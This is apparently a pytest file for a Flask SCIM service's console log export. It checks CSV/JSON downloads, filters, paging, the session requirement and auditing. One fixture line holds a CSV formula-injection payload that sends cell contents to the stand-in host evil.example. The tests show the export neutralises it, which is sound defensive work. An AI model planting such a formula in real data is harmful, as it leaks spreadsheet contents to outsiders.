"""Downloading the provisioning log from the console: the page's filters, every page of them,
only with a session, and cells no spreadsheet runs."""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import datetime, timedelta, timezone

import pytest

from scimflask.ops.log_export import COLUMNS
from scimflask.storage.capabilities import LogEntry

from .test_console_security import XSS, app, console  # noqa: F401 (the app and a signed-in console)
from .test_console_support import CONSOLE, ConsoleClient, scim, user

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def traffic(app, console) -> str:
    """Tenant "acme" with two users created (one a formula, one a script) and two failures."""
    token = console.enable_scim("acme")
    for name in (FORMULA, XSS):
        assert scim(app, token, "POST", "/Users", user(name)).status_code == 201
    assert scim(app, token, "POST", "/Users", user(XSS)).status_code == 409
    assert scim(app, token, "DELETE", "/Users/no-such-user").status_code == 404
    return token


def rows(response) -> list[dict]:
    table = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert tuple(table[0]) == COLUMNS
    return [dict(zip(COLUMNS, row, strict=True)) for row in table[1:]]


def test_the_csv_holds_the_whole_log_as_a_download(console, traffic):
    response = console.get("/tenants/acme/log.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="scimflask-log-acme.csv"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in response.headers["Content-Security-Policy"]
    found = rows(response)
    assert [(row["method"], row["status"]) for row in found] == [("DELETE", "404"), ("POST", "409"),
                                                                ("POST", "201"), ("POST", "201")]


def test_the_export_honours_the_filters(console, traffic):
    failures = rows(console.get("/tenants/acme/log.csv?outcome=failure"))
    assert [row["status"] for row in failures] == ["404", "409"]
    assert {row["outcome"] for row in failures} == {"failure"}
    deletes = json.loads(console.get("/tenants/acme/log.json?outcome=failure&method=DELETE").get_data(as_text=True))
    assert [entry["status"] for entry in deletes["entries"]] == [404]
    created = rows(console.get("/tenants/acme/log.csv?status=2xx&q=script"))
    assert [(row["status"], row["userName"]) for row in created] == [("201", XSS)]
    assert rows(console.get("/tenants/acme/log.csv?status=5xx")) == []
    assert console.get("/tenants/acme/log.json?status=5xx").get_json() == {"entries": []}


def test_the_log_page_links_its_filters_to_the_downloads(console, traffic):
    html = console.get("/tenants/acme/log?outcome=failure&method=POST").get_data(as_text=True)
    for suffix in ("csv", "json"):
        assert f'href="{CONSOLE}/tenants/acme/log.{suffix}?outcome=failure&amp;method=POST"' in html
    assert "Download CSV" in html and "Download JSON" in html


def test_a_formula_or_a_script_in_a_cell_stays_text(console, traffic):
    response = console.get("/tenants/acme/log.csv")
    names = [row["userName"] for row in rows(response) if row["status"] == "201"]
    assert names == [XSS, "'" + FORMULA]  # the apostrophe: a spreadsheet shows the text, runs nothing
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows(response) for cell in row.values())
    document = console.get("/tenants/acme/log.json")
    assert document.mimetype == "application/json"
    assert document.headers["Content-Disposition"] == 'attachment; filename="scimflask-log-acme.json"'
    assert {entry["userName"] for entry in document.get_json()["entries"]} >= {FORMULA, XSS}


def test_the_export_reads_every_page(app, console):
    console.enable_scim("acme")
    storage = app.extensions["scim"].storage
    start = datetime.now(timezone.utc) - timedelta(hours=1)
    storage.append_logs([LogEntry(id=f"{n:015x}{0:08x}", tenant="acme", time=start + timedelta(seconds=n),
                                  method="GET", path=f"/Users/{n}", status=404, outcome="failure")
                         for n in range(1, 1206)])  # more than the console's page and the storage's limit
    entries = console.get("/tenants/acme/log.json").get_json()["entries"]
    assert len(entries) == 1205 and entries[0]["path"] == "/Users/1205" and entries[-1]["path"] == "/Users/1"


def test_downloads_need_a_session(app, traffic):
    stranger = ConsoleClient(app)
    for path in ("/tenants/acme/log.csv", "/tenants/acme/log.json?outcome=failure"):
        response = stranger.get(path)
        assert response.status_code == 303 and response.headers["Location"].endswith(CONSOLE + "/sign-in")
        assert "Content-Disposition" not in response.headers


def test_a_download_of_an_unknown_tenant_is_404(console):
    assert console.get("/tenants/nobody/log.csv").status_code == 404
    assert console.get("/tenants/acme/log.xml").status_code == 404


def test_downloads_are_audited_without_the_text_searched_for(console, traffic, caplog):
    caplog.set_level(logging.INFO, logger="scimflask.audit")
    console.get("/tenants/acme/log.csv?outcome=failure&q=alice")
    (line,) = [json.loads(r.getMessage()) for r in caplog.records if r.name == "scimflask.audit"]
    assert line["event"] == "console.export_log" and line["tenant"] == "acme" and line["format"] == "csv"
    assert line["filters"] == "outcome,q" and line["actor"].startswith("admin-token:")
    assert "alice" not in caplog.text
